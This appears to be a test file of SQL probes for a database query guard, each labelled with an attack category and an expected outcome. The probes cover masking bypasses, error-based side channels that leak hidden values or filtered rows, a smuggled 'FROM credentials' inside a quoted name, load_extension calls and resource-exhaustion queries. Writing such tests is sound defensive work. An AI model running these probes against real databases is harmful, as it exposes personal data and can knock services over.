-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
CREATE TEMP VIEW customers AS SELECT * FROM main.customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
CREATE TEMP TRIGGER t INSTEAD OF INSERT ON customer_mails BEGIN SELECT 1; END

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
CREATE TABLE t AS SELECT * FROM credentials

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
CREATE VIRTUAL TABLE t USING dbstat

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
CREATE INDEX i ON customers (token)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
DROP VIEW customer_mails

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
ALTER TABLE customers RENAME COLUMN token TO id2

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
INSERT OR REPLACE INTO products VALUES (1, 'x', 'y', 1, '{}', NULL) RETURNING *

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
INSERT INTO products SELECT * FROM products ON CONFLICT DO NOTHING

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
UPDATE OR IGNORE customers SET name = 'x' RETURNING token

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
UPDATE customers SET name = c.token FROM customers c

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
DELETE FROM orders WHERE id = 1 RETURNING note

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
WITH x AS (SELECT 1) DELETE FROM orders

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
WITH x AS (SELECT 1) INSERT INTO products SELECT 1, 'x', 'y', 1, '{}', NULL

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
WITH x AS (SELECT 1) UPDATE orders SET total = 0

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
BEGIN EXCLUSIVE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
COMMIT TRANSACTION

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
ROLLBACK TO x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
EXPLAIN SELECT token FROM customers

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
EXPLAIN QUERY PLAN SELECT * FROM customers WHERE token = 'x'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements,unknown-name
DETACH main

-- masked column through functions of its engine | safe
SELECT printf('%s %q %Q %w', name, name, phone, email) FROM customers

-- masked column through functions of its engine | safe
SELECT printf('%.40s|%-60s|%60s', name, phone, email) FROM customers

-- masked column through functions of its engine | safe
SELECT printf('%d %x %o %e %g', salary, salary, salary, salary, salary) FROM employees

-- masked column through functions of its engine | safe
SELECT printf('%,d %+d %010d', salary, salary, salary), format('%!.15f', salary) FROM employees

-- masked column through functions of its engine | safe
SELECT printf('%c%c%c', name, phone, email), printf(name), printf(phone, 1) FROM customers

-- masked column through functions of its engine | safe
SELECT hex(name), hex(phone), quote(ssn), unhex(hex(name)) FROM customers

-- masked column through functions of its engine | safe
SELECT CAST(CAST(name AS BLOB) AS TEXT), CAST(phone AS INTEGER), CAST(email AS REAL), CAST(ssn AS NUMERIC) FROM customers

-- masked column through functions of its engine | safe
SELECT substr(name, -10), substr(CAST(name AS BLOB), 1, 99), substring(phone, 1) FROM customers

-- masked column through functions of its engine | safe
SELECT instr(CAST(name AS BLOB), x'43414e415259'), instr(phone, '+49') FROM customers

-- masked column through functions of its engine | safe
SELECT unicode(name), char(unicode(phone)), length(CAST(name AS BLOB)), octet_length(name) FROM customers

-- masked column through functions of its engine | safe
SELECT typeof(name), typeof(card_no), typeof(payload), typeof(salary) FROM customers, payments, events, employees LIMIT 5

-- masked column through functions of its engine | safe
SELECT json_array(name, phone), json_quote(email), json_object('a', ssn), json_set('{}', '$.n', name) FROM customers

-- masked column through functions of its engine | safe
SELECT json_group_array(json_object('n', name, 'p', phone)), json_group_object(name, phone) FROM customers

-- masked column through functions of its engine | safe
SELECT json_insert('[]', '$[#]', name), json_patch('{}', json_object('n', name)), json_valid(name), json_error_position(name) FROM customers

-- masked column through functions of its engine | safe
SELECT json_extract(payload, '$'), json_type(payload), json_array_length(payload), json(payload), json_pretty(payload) FROM events

-- masked column through functions of its engine | safe
SELECT payload -> 'secret', payload ->> '$.secret', payload -> '$' ->> 'secret' FROM events

-- masked column through functions of its engine | safe
SELECT key, value FROM events, json_each(events.payload)

-- masked column through functions of its engine | safe
SELECT e.id, t.atom FROM events e LEFT JOIN json_tree(e.payload) AS t

-- masked column through functions of its engine | safe
SELECT j.value FROM customers c, json_each(json_array(c.name, c.phone, c.email)) AS j

-- masked column through functions of its engine | safe
SELECT j.value FROM (SELECT json_group_array(name) AS a FROM customers) AS x, json_each(x.a) AS j

-- masked column through functions of its engine | safe
SELECT jsonb(payload), hex(jsonb_array(name)), jsonb_extract(jsonb_object('n', name), '$.n') FROM events, customers LIMIT 5

-- masked column through functions of its engine | safe
SELECT strftime('%Y-%m-%d', birth_date), julianday(birth_date), date(birth_date, '+0 days'), unixepoch(birth_date), strftime('%j', birth_date) FROM customers

-- masked column through functions of its engine | safe
SELECT date(birth_date, 'start of year'), timediff(birth_date, '1800-01-01'), substr(birth_date, 6) FROM customers

-- masked column through functions of its engine | safe
SELECT salary << 1, salary >> 1, salary & 65535, salary | 0, -salary, salary % 1000, salary || '' FROM employees

-- masked column through functions of its engine | safe
SELECT total(salary), avg(salary), sum(salary) - 7000000 * count(*), group_concat(salary) FROM employees

-- masked column through functions of its engine | safe
SELECT max(salary, 0), min(salary, 99999999), abs(salary), round(salary, -3), sign(salary) FROM employees

-- masked column through functions of its engine | safe
SELECT max(name, phone), min(name, email), coalesce(card_no, plate) FROM customers, payments, vehicles LIMIT 40

-- masked column through functions of its engine | safe
SELECT name, max(id) FROM customers GROUP BY city

-- masked column through functions of its engine | safe
SELECT max(salary), name, manager_id FROM employees

-- masked column through functions of its engine | safe
SELECT min(birth_date), phone, ssn FROM customers GROUP BY region

-- masked column through functions of its engine | safe
SELECT name FROM customers GROUP BY city HAVING id = max(id)

-- masked column through functions of its engine | safe
SELECT iif(name LIKE '%CANARY%', name, phone), nullif(name, phone), ifnull(card_no, 'x') FROM customers, payments LIMIT 40

-- masked column through functions of its engine | safe
SELECT name COLLATE NOCASE = phone, name COLLATE RTRIM, name COLLATE BINARY FROM customers

-- masked column through functions of its engine | safe
SELECT like('%CANARY%', name), glob('*CANARY*', name), like('x', name, '!') FROM customers

-- masked column through functions of its engine | safe
SELECT likely(name), unlikely(phone), likelihood(email, 0.5) FROM customers

-- masked column through functions of its engine | safe
SELECT concat(name, phone), concat_ws(',', name, email, ssn), replace(name, char(8226), '') FROM customers

-- masked column through functions of its engine | safe
SELECT group_concat(name, phone) OVER (ORDER BY id), string_agg(phone, ',') OVER (ORDER BY id ROWS 2 PRECEDING) FROM customers

-- masked column through functions of its engine | safe
SELECT trim(name, 'Ada '), ltrim(phone, '•'), rtrim(email, 'moc.') FROM customers

-- masked column through functions of its engine | safe
SELECT name AS "token", phone AS [password_hash], email AS `login`, ssn 'secret' FROM customers

-- masked column through functions of its engine | safe
SELECT x.* FROM (SELECT name AS a, phone AS b FROM customers UNION ALL SELECT name, dept FROM employees) AS x

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE CAST(name AS BLOB) = CAST('Ada CANARYname1 Lovelace' AS BLOB)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE hex(name) LIKE hex('Ada CANARY') || '%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE instr(lower(name), 'canary')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name LIKE '%canaryname1 %' OR name GLOB 'Ada C*'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE like('%CANARY%', name)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE glob('*CANARY*', name)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name = 'ada canaryname1 lovelace' COLLATE NOCASE

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE max(name, 'Ada C') = name AND min(name, 'Ada D') = name

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE strftime('%m-%d', birth_date) <> '01-01'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date NOT LIKE '%-01-01'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE julianday(birth_date) - julianday(date(birth_date, 'start of year')) > 0

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary > 7000000.0

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE CAST(salary AS TEXT) <> '7000000'

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary & 1

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload IS NOT NULL OR json_valid(payload)

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload ->> 'secret' GLOB 'CANARY*'

-- guessing behind the mask | no-rows
SELECT e.id FROM events e, json_each(e.payload) AS j

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no NOTNULL

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE typeof(card_no) = 'text'

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE body NOT LIKE '[hidden]'

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE plate > 'C•••' OR length(plate) <> 4

-- guessing behind the mask | no-rows
SELECT c.id FROM customers c, json_each('["Ada CANARYname1 Lovelace", "Ada CANARYname2 Lovelace"]') AS j WHERE j.value = c.name

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE (name, phone) > ('Ada C', '') AND name < 'Ada D'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IS (SELECT 'Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT count(*) FILTER (WHERE name LIKE '%CANARY%') FROM customers

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers HAVING total(phone LIKE '+49%') > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ssn LIKE 'CANARY%' OR length(ssn) <> 32

-- error about a value behind a mask | european-answers
SELECT count(*) FROM customers WHERE abs(CASE WHEN instr(name, 'CANARY') THEN -9223372036854775808 ELSE 1 END) = 1

-- error about a value behind a mask | european-answers
SELECT count(*) FROM customers WHERE json(CASE WHEN name LIKE '%CANARY%' THEN '{' ELSE '{}' END) IS NOT NULL

-- error about a value behind a mask | european-answers
SELECT count(*) FROM employees WHERE json(CASE WHEN salary > 7000000 THEN 'x' ELSE '1' END) IS NOT NULL

-- error about a value behind a mask | european-answers
SELECT count(*) FROM events WHERE json_extract('{}', CASE WHEN payload IS NULL THEN '$' ELSE 'x' END) IS NOT NULL

-- error about a value behind a mask | european-answers
SELECT sum(CASE WHEN card_no IS NULL THEN 1 ELSE 9223372036854775807 END) FROM payments

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE abs(CASE WHEN region = 'EU' THEN 1 ELSE -9223372036854775808 END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE json(CASE WHEN region = 'EU' THEN '1' ELSE 'x' END) = '1'

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE json_extract('{}', CASE WHEN region = 'EU' THEN '$' ELSE 'bad' END) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE json_set('{}', CASE WHEN region = 'EU' THEN '$.a' ELSE '$[' END, 1) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE EXISTS (SELECT 1 FROM json_each(CASE WHEN region = 'EU' THEN '[1]' ELSE '[' END))

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers c JOIN json_each(CASE WHEN c.region = 'EU' THEN '[1]' ELSE '{' END) AS j

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE 'a' LIKE 'a' ESCAPE CASE WHEN region = 'EU' THEN '!' ELSE 'xx' END

-- error about a row outside the filter | european-answers
SELECT sum(CASE WHEN region = 'EU' THEN 1 ELSE 9223372036854775807 END) FROM customers

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE length(printf('%.*c', CASE WHEN region = 'EU' THEN 1 ELSE 2000000000 END, 'x')) = 1

-- error about a row outside the filter | european-answers
SELECT count(x) FROM (SELECT nth_value(id, CASE WHEN region = 'EU' THEN 1 ELSE -1 END) OVER () AS x FROM customers)

-- error about a row outside the filter | european-answers
SELECT count(x) FROM (SELECT ntile(CASE WHEN region = 'EU' THEN 1 ELSE 0 END) OVER () AS x FROM customers)

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE replace(hex(CASE WHEN region = 'EU' THEN 'a' ELSE printf('%.100000c', 'x') END), '7', printf('%.100000c', 'y')) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders WHERE json(CASE WHEN customer_id % 3 = 1 THEN '1' ELSE 'x' END) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT max(abs(CASE WHEN customer_id = 3 THEN -9223372036854775808 ELSE 1 END)) FROM orders

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region IS NOT 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region GLOB '[^E]*' OR region ISNULL

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region COLLATE NOCASE IN ('us', 'apac')

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE (region, id) < ('EU', 0)

-- row outside the filter | european-no-rows
SELECT j.value FROM customers c, json_each(json_array(c.region)) AS j WHERE j.value <> 'EU'

-- row outside the filter | european-no-rows
SELECT region FROM customers GROUP BY region HAVING region > 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE iif(region = 'EU', 0, 1)

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE json_extract(json_object('r', region), '$.r') = 'US'

-- row outside the filter | european-no-rows
SELECT c.id FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.region IS NOT 'EU'

-- row outside the filter | european-no-rows
SELECT o.id FROM customers c RIGHT JOIN orders o ON c.id = o.customer_id WHERE c.id IS NULL

-- row outside the filter | european-no-rows
SELECT o.id FROM customers c FULL JOIN orders o ON c.id = o.customer_id WHERE c.id IS NULL AND o.id IS NOT NULL

-- clause of another engine or of none | safe
SELECT * FROM customers INDEXED BY sqlite_autoindex_customers_1

-- clause of another engine or of none | safe
SELECT * FROM orders INDEXED BY orders_by_customer WHERE customer_id = 3

-- clause of another engine or of none | safe
SELECT * FROM customers c JOIN orders o INDEXED BY orders_by_customer ON o.customer_id = c.id

-- clause of another engine or of none | safe
SELECT * FROM customers WHERE customers MATCH 'x'

-- clause of another engine or of none | safe
SELECT * FROM customers WHERE name MATCH phone

-- clause of another engine or of none | safe
SELECT 'x' REGEXP name FROM customers

-- clause of another engine or of none | safe
SELECT RAISE(ABORT, 'x')

-- clause of another engine or of none | safe
SELECT RAISE(IGNORE) FROM customers

-- clause of another engine or of none | safe
SELECT * FROM customers RETURNING id

-- clause of another engine or of none | safe
SELECT * FROM customers ORDER BY id LIMIT 3 OFFSET 1 OFFSET 2

-- clause of another engine or of none | safe
SELECT id FROM customers ORDER BY 99

-- clause of another engine or of none | safe
SELECT id FROM customers ORDER BY -1, 'token', NULL

-- clause of another engine or of none | safe
SELECT id FROM customers GROUP BY 0

-- clause of another engine or of none | safe
SELECT count(*) AS n FROM customers WHERE n > 0

-- clause of another engine or of none | safe
SELECT max(count(*)) FROM customers

-- clause of another engine or of none | safe
SELECT row_number() OVER () AS r FROM customers WHERE r = 1

-- clause of another engine or of none | safe
SELECT (SELECT 1, 2)

-- clause of another engine or of none | safe
SELECT (1, 2)

-- clause of another engine or of none | safe
SELECT * FROM customers, customers

-- clause of another engine or of none | safe
SELECT * FROM (SELECT 1 AS a, 2 AS a) AS x

-- clause of another engine or of none | safe
SELECT * FROM customers NATURAL JOIN customers

-- clause of another engine or of none | safe
SELECT c.* FROM (SELECT * FROM customers) AS c, c

-- clause of another engine or of none | safe
SELECT id AS id, name AS id FROM customers WHERE id = 1

-- clause of another engine or of none | safe
SELECT *, * FROM "Odd Table"

-- clause of another engine or of none | safe
SELECT 1 WHERE 1 LIMIT 1 UNION SELECT 2

-- clause of another engine or of none | safe
SELECT 1 ORDER BY 1 UNION SELECT 2

-- clause of another engine or of none | safe
VALUES (1), (2, 3)

-- clause of another engine or of none | safe
VALUES ((SELECT token FROM customers))

-- clause of another engine or of none | safe
SELECT CURRENT_USER, USER, DATABASE()

-- clause of another engine or of none | safe
SELECT sqlite_version() || name FROM products

-- clause of another engine or of none | safe
SELECT random() & 0, hex(randomblob(4))

-- clause of another engine or of none | safe
SELECT DISTINCT ON (city) city FROM customers

-- clause of another engine or of none | safe
SELECT * FROM customers ASOF JOIN orders USING (id)

-- clause of another engine or of none | safe
SELECT * FROM customers LEFT ANTI JOIN orders USING (id)

-- clause of another engine or of none | safe
SELECT * FROM customers SEMI JOIN orders ON true

-- resources | safe
SELECT printf('%.*c', 2000000000, 'x')

-- resources | safe
SELECT printf('%2000000000s', 'x'), printf('%.2000000000f', 1.0)

-- resources | safe
SELECT replace(printf('%.1000000c', 'x'), 'x', printf('%.1000c', 'y'))

-- resources | safe
SELECT group_concat(a.note || b.note) FROM orders a, orders b

-- resources | safe
SELECT json_group_array(json_array(a.name, b.name)) FROM customers a, customers b, customers c

-- resources | safe
WITH RECURSIVE n(i, t) AS (SELECT 1, 'x' UNION ALL SELECT i + 1, t || t FROM n) SELECT length(t) FROM n LIMIT 100

-- resources | safe
WITH RECURSIVE n(i) AS (SELECT 1 UNION SELECT i + 1 FROM n) SELECT count(*) FROM n

-- resources | safe
SELECT count(*) FROM customers WHERE name || phone LIKE '%a%b%c%d%e%f%g%h%i%j%k%l%m%n%o%p%q%r%s%t%u%v%w%x%y%z%'

-- resources | safe
SELECT printf('%.50000c', 'a') LIKE '%a%a%a%a%a%a%a%a%a%b'

-- resources | safe
SELECT printf('%.50000c', 'a') GLOB '*a*a*a*a*a*a*a*a*b'

-- resources | safe
SELECT count(*) FROM orders a, orders b, order_items c WHERE a.note || b.note = c.price || ''

-- resources | safe
SELECT 1 IN (SELECT a.id + b.id + c.id FROM orders a, orders b, orders c WHERE a.id < 0 OR b.note = c.note)

-- hidden column in a frame | unknown-name
SELECT id, group_concat(token) OVER (ORDER BY id ROWS 1 PRECEDING EXCLUDE CURRENT ROW) FROM customers

-- hidden column in a frame | unknown-name
SELECT id, count(*) OVER (ORDER BY token GROUPS CURRENT ROW EXCLUDE TIES) FROM customers

-- masked column in a frame | safe
SELECT id, group_concat(name) OVER (ORDER BY name ROWS UNBOUNDED PRECEDING EXCLUDE CURRENT ROW) FROM customers

-- filtered row in a frame | european-no-rows
SELECT n FROM (SELECT count(*) FILTER (WHERE region = 'US') OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING EXCLUDE CURRENT ROW) AS n FROM customers) AS x

-- forbidden function in a frame | function-refused
SELECT sum(id) OVER (ORDER BY load_extension('x') ROWS 1 PRECEDING EXCLUDE GROUP) FROM customers

-- lying name in a frame | not-supported,syntax
SELECT sum(id) OVER ("w) FROM credentials --" ROWS 1 PRECEDING EXCLUDE TIES) FROM customers

-- hidden column through another word | unknown-name
SELECT id FROM customers WHERE token ISNULL

-- hidden column through another word | unknown-name
SELECT id FROM customers WHERE token NOT GLOB 'CANARY*'

-- masked column through another word | no-rows
SELECT id FROM customers WHERE NOT name NOT GLOB '*CANARY*'

-- filtered row through another word | european-no-rows
SELECT id FROM customers WHERE NOT region NOT GLOB 'US'

-- forbidden operator through another word | syntax,function-refused,not-supported
SELECT id FROM customers WHERE city NOT REGEXP 'a'

-- forbidden operator through another word | syntax,function-refused,not-supported
SELECT id FROM customers WHERE city NOT MATCH 'a'

-- hidden column through repeated names | unknown-name
SELECT * FROM (SELECT id, token AS id FROM customers)

-- hidden column through repeated names | unknown-name
SELECT "id:2" FROM (SELECT c.id, o.id FROM customers c, orders o)

-- masked column through repeated names | safe
SELECT * FROM (SELECT name, phone AS name, email AS name FROM customers)

-- masked column through repeated names | safe
SELECT "name:1", "name:2" FROM (SELECT name, phone AS name, email AS name FROM customers)

-- a number in another form | safe
SELECT char(0x41, 0x42), 0x7fffffffffffffff + 1

-- a number in another form | not-supported
SELECT 0x8000000000000000

-- a number in another form | not-supported,syntax
SELECT 0x1token FROM customers

-- ONLY, TABLE and the like | not-supported
TABLE customers
